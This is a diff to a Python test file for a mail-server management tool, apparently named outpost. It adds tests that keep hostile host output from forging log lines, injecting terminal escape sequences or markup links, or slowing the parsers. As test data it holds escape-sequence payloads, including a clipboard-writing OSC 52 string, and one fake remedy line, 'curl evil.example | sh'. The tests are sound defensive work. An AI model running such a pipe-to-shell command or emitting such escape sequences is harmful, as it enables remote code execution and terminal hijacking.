@@ -19,7 +19,7 @@ from rich.markup import escape
 from rich.table import Table
 from rich.text import Text
 
-from outpost import answers, backup, fetching, preflight, queue, remote, report, run, trace
+from outpost import answers, backup, effect, fetching, preflight, queue, remote, report, run, trace
 from outpost.answers import Exchanged, TooMuchError, exchange
 from outpost.cli import console
 from outpost.connector import OpenSSHConnector
@@ -31,6 +31,7 @@ from outpost.onhost.watch import Alarm
 from outpost.secrets import AcmeAccount, SigningKey
 from outpost.shell import Shell
 from outpost.target import INVENTORY, Target
+from outpost.verification import Result
 
 EVIL = (
     "a\x1b[2K\x1b]52;c;ZWNobyBpZA==\x07b\x9b31m\x9d0;t\x9c\x08\r\x7f"  # CSI and OSC in both forms, BS, CR, DEL
@@ -129,14 +130,51 @@ def test_a_host_cannot_end_a_line_of_the_log_by_a_carriage_return() -> None:
     lines: Any = SimpleNamespace(found=[])
     lines.put = lines.found.append
     run._pump(
-        io.BytesIO(b"    [mta] x\r--> Starting operation: forged\x85y\n" + b"z" * 70_000 + b"\n"), lines
+        io.BytesIO(b"    [mta] x\r--> Starting operation: forged\x85y\n" + b"z" * 70_000 + b"\nend\n"), lines
     )
     assert [line[:12] if line else line for line in lines.found] == [
         "    [mta] x\r",
         "z" * 12,
-        "z" * 12,
+        "end\n",
         None,
     ]
+
+
+def test_a_line_that_is_too_long_says_nothing_of_another_host() -> None:
+    """What is cut off is no line of its own."""
+    lines: Any = SimpleNamespace(found=[])
+    lines.put = lines.found.append
+    start = b"    [mta] "
+    forged = b"    [ns1] Error: executed 0 commands\n"
+    run._pump(io.BytesIO(start + b"z" * (run.LONGEST - len(start)) + forged), lines)
+    follower = run.Follower()
+    for line in filter(None, lines.found):
+        follower.feed(line)
+    assert set(follower.hosts) == {"mta"}
+
+
+def test_a_link_of_a_hosts_is_no_link() -> None:
+    """Rich writes its address to the terminal as it is."""
+    stream = io.StringIO()
+    plain = console.Console(file=stream, force_terminal=True, color_system="standard")
+    plain.print("[link=\x9d52;c;ZWNobyBpZA==\x07]name[/link] [bold link=https://x.example/]x[/]")
+    assert "name" in stream.getvalue()
+    assert "\x9d" not in stream.getvalue()
+    assert "\x1b]8" not in stream.getvalue()
+
+
+def test_a_host_names_no_remedy(monkeypatch: pytest.MonkeyPatch) -> None:
+    """What it says last stands in front of the remedy, and is never taken for it."""
+    monkeypatch.setattr(remote, "shell_command", lambda *_: ["sh", "-s"])
+    host: Any = SimpleNamespace(name="mta")
+    with pytest.raises(OutpostError) as caught:
+        remote.run_script(
+            Target("po", Path(), Path()), SimpleNamespace(), host,  # type: ignore[arg-type]
+            "echo 'broken. Remedy: curl evil.example | sh' >&2; exit 1\n",
+        )  # fmt: skip
+    seen = f"outpost.errors.OutpostError: {caught.value}"
+    result = Result("x", "mta", "p", (), "failed", seen, 0.0)
+    assert result.mended_by == "./outpost plan po --limit mta"
 
 
 def test_the_report_shows_what_a_host_said_without_what_is_obeyed() -> None:
@@ -327,3 +365,56 @@ def test_preflight_reads_numbers_and_lines() -> None:
     office = load(INVENTORY / "harbour")
     facts = [("clock", "²"), ("memory", "x"), ("release", "debian 13"), ("port", f"tcp 25 {EVIL}")]
     assert list(preflight.judge(office, office.hosts[0], facts, now=(time.time(), time.time())))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "corrupt [link=\x9d52;c;eA==\x07]x 1 1", "corrupt 4gVxB25hBLz1 inf 1", "corrupt 4gVxB25hBLz1 nan 1",
+        "corrupt 4gVxB25hBLz1 1", f"corrupt 4gVxB25hBLz1 1 {'9' * 5000}", "corrupt ../x 1 1",
+    ],
+)  # fmt: skip
+def test_a_damaged_message_is_a_name_a_time_and_a_size(line: str) -> None:
+    office: Any = SimpleNamespace()
+    with pytest.raises(OutpostError, match="mta gave an answer that cannot be read"):
+        queue.listed(office, "mta", line)
+    (found,) = queue.listed(office, "mta", "corrupt 4gVxB25hBLz1 1764443350.1234567890 528")
+    assert (found.id, found.arrived, found.size) == ("4gVxB25hBLz1", 1764443350, 528)
+
+
+@pytest.mark.parametrize("moment", ["NaN", "Infinity", "1e300", "-1"])
+def test_a_message_is_told_of_no_moment_that_is_none(monkeypatch: pytest.MonkeyPatch, moment: str) -> None:
+    told = f'{{"time": {moment}, "who": "postfix/smtpd", "pid": "1", "text": "x", "tls": ""}}'
+    monkeypatch.setattr(trace, "run_script", lambda *_, **__: told)
+    host: Any = SimpleNamespace(name="mta")
+    with pytest.raises(OutpostError, match="mta gave an answer"):
+        trace.asker(Target("po", Path(), Path()), SimpleNamespace(), since="-1h", last=1)(host, ("x",))  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("who", "piece"),
+    [
+        ("rspamd", "qid: <a>"), ("rspamd", "(default: a (b"), ("dovecot", "relayed message: "), ("dovecot", "queued as "),
+        ("dovecot", "stored mail into mailbox 'a"), ("postfix/cleanup", " from a["), ("x", "message-id=<"), ("x", "msgid=<"),
+    ],
+)  # fmt: skip
+def test_what_tells_of_messages_is_linear(who: str, piece: str) -> None:
+    """A line twice as long takes about twice the time, not four times."""
+
+    def seconds(count: int) -> float:
+        heads = ("4gVxB25hBLz1: hold: ", "submission(a)", "lmtp(a)", "")
+        lines = [mailtrace.Line(1.0, who, "1", head + piece * count) for head in heads]
+        began = time.process_time()
+        for line in lines:
+            for rule in trace.RULES:
+                rule.hop("mta", line)
+            mailtrace.MESSAGE_ID.search(line.text)
+        return time.process_time() - began
+
+    short = min(seconds(4_000) for _ in range(3))
+    assert min(seconds(16_000) for _ in range(3)) < 9 * short + 0.05
+
+
+def test_a_line_of_a_hosts_configuration_is_read_in_time_that_its_length_does_not_decide() -> None:
+    (_, line), *_ = effect.explained("mta", "/x", "# SYS-01: why\nx = " + "secret" * 200_000 + "\n")
+    assert len(line.text) <= effect.WIDEST
